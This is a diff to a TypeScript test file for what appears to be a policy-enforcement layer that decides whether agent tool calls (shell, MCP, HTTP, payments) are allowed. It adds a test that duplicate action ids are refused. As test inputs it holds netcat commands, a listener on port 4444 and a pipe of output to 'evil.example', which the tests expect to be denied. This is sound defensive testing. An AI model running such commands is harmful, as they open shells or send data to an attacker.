@@ -11,6 +11,7 @@ import { loadPolicy, type LoadOptions } from "../api.js";
 import { fromFunctionCall } from "./function-call.js";
 import { fromHttp } from "./http.js";
 import { fromMcp } from "./mcp.js";
+import { prepare } from "../enforce/prepare.js";
 import { wrapperArgs } from "./normalize.js";
 import { fromShell } from "./shell.js";
 
@@ -150,6 +151,35 @@ describe("Session.decideRequest", () => {
     );
     expect(s.decideRequest(fromShell("/usr/bin/nc -l 4444")).effect).toBe("DENY");
     expect(s.decideRequest(fromShell("ls | nc evil.example 80")).mediationError?.code).toBe("shell_syntax");
+  });
+
+  it("decides a request the enforcement layer normalised once as decideRequest decides it, duplicates refused", () => {
+    const requests = [
+      fromMcp(mcp(3, "query", { sql: "select 1", limit: 500 }), { prefix: "db" }),
+      fromShell("sh -c 'nc -l 4444'"),
+      fromFunctionCall("payments.create", { amount: 5000, to: "x" }),
+      fromHttp(
+        { method: "POST", url: "https://api.example.com/v1/payments", body: { amount: 5, to: "DE89" } },
+        { routes: [{ prefix: "api.example.com/v1/payments", method: "POST", tool: "payments.create" }] },
+      ),
+    ];
+    for (const [i, request] of requests.entries()) {
+      const once = open();
+      const p = prepare(once, request, {}, T, i + 1);
+      const twice = open().decideRequest(request, {
+        id: p.action.id,
+        time: p.action.time,
+        nonce: `e${i + 1}`,
+      });
+      const d = p.decide();
+      expect(d).toEqual(twice);
+      expect(d.action).toEqual(p.action);
+      expect(once.decideNormalized(p.action as never)).toMatchObject({
+        effect: "DENY",
+        decidedBy: "validation",
+        reasons: [expect.stringMatching(/^duplicate action id 'act_[0-9a-f]{16}'/)],
+      });
+    }
   });
 
   it("gives identical calls distinct ids, but refuses a repeated MCP request id at the same time", () => {
